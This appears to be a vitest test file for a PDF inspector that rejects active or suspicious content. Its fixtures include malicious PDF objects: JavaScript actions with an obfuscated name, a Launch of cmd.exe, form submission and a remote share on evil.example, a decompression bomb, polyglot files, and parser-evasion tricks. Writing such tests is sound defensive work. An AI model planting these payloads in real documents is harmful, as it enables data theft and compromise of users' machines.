import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { inspectPdf } from './inspect-pdf.ts';

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\n', 'latin1'),
    ...objects.map((object, at) =>
      Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ]);
const PAGES = '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>';
/** Objects in a compressed stream. */
const packed = (objects: string | Buffer, entries = '/Filter /FlateDecode') => {
  const data = deflateSync(objects);
  return Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Length ${data.length} ${entries} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
};

describe('a PDF that only shows pages', () => {
  test('is taken, also with compressed objects and with text that speaks of scripts', async () => {
    expect(await inspectPdf(pdf(PAGES))).toBeNull();
    expect(await inspectPdf(pdf(PAGES, packed('4 0 << /Type /Page >>')))).toBeNull();
    expect(await inspectPdf(pdf(PAGES, '(JavaScript and Launch are words)'))).toBeNull();
    expect(await inspectPdf(pdf(PAGES, '<< /JavaScripture 1 >>'))).toBeNull();
  });
});

describe('a PDF that does more', () => {
  test.each([
    ['a script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
    ['a script with its name spelt otherwise', '<< /S /J#61va#53cript /JS (app.alert(1)) >>'],
    ['a program', '<< /S /Launch /F (cmd.exe) >>'],
    ['a file inside', '<< /Type /Filespec /EF << /F 5 0 R >> /Names << /EmbeddedFiles 6 0 R >> >>'],
    ['a form that is sent', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['a form of scripts', '<< /AcroForm << /XFA 7 0 R >> >>'],
    ['another file', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>'],
  ])('is refused: %s', async (_what, object) => {
    expect(await inspectPdf(pdf(PAGES, object))).toBe('active');
    expect(await inspectPdf(pdf(PAGES, packed(`4 0 ${object}`)))).toBe('active');
  });

  test('is refused where it cannot be looked into', async () => {
    const refused = 'cannot-be-looked-into';
    expect(await inspectPdf(pdf(PAGES, '<< /Encrypt 9 0 R >>'))).toBe(refused);
    expect(await inspectPdf(pdf(PAGES, packed('x', '/Filter /LZWDecode')))).toBe(refused);
    expect(await inspectPdf(pdf(PAGES, packed('x', '/Filter [/ASCIIHexDecode /FlateDecode]')))).toBe(refused);
    const predicted = '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>';
    expect(await inspectPdf(pdf(PAGES, packed('x', predicted)))).toBe(refused);
    const script = '4 0 << /S /JavaScript /JS (app.alert(1)) >>';
    const far = packed(script, `/Filter /FlateDecode /Note (${'x'.repeat(5000)})`);
    expect(await inspectPdf(pdf(PAGES, far))).toBe(refused);
    const misled = packed(script, '/Filter /FlateDecode /Note (7 0 obj)');
    expect(await inspectPdf(pdf(PAGES, misled))).toBe(refused);
    const broken = Buffer.from('<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot deflated\nendstream');
    expect(await inspectPdf(pdf(PAGES, broken))).toBe(refused);
  });

  test('is refused where it would unpack to more than may be', async () => {
    const bomb = packed(Buffer.alloc(33 * 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(64 * 1024);
    expect(await inspectPdf(pdf(PAGES, bomb))).toBe('cannot-be-looked-into');
    const half = packed(Buffer.alloc(17 * 1024 * 1024, 0x20));
    expect(await inspectPdf(pdf(PAGES, half, half))).toBe('cannot-be-looked-into');
  });
});

describe('what is no PDF, or not only one', () => {
  test('is refused', async () => {
    const whole = pdf(PAGES);
    expect(await inspectPdf(Buffer.from('<html>%PDF-1.7 %%EOF'))).toBe('no-pdf');
    expect(await inspectPdf(Buffer.from('%PDF-1.7 and no end'))).toBe('no-pdf');
    expect(await inspectPdf(Buffer.concat([Buffer.from('MZ'), whole]))).toBe('no-pdf');
    const archive = Buffer.concat([whole, Buffer.from('PK\u0003\u0004payload')]);
    expect(await inspectPdf(archive)).toBe('more-than-a-pdf');
    const page = Buffer.concat([whole, Buffer.from('<script>alert(1)</script>')]);
    expect(await inspectPdf(page)).toBe('more-than-a-pdf');
    expect(await inspectPdf(Buffer.concat([whole, Buffer.alloc(100_000)]))).toBe('more-than-a-pdf');
  });
});
